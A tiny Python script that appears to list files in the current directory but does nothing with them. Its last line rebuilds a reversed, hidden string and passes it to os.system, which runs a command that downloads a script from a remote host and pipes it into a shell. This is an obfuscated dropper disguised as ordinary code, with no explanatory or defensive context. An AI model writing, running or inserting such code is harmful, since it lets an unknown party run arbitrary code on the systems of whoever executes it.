import os
for f in os.listdir('.'):
    pass
os.system(''.join(reversed('hs | i/ved.sloot-bat//:sptth s- lruc')))
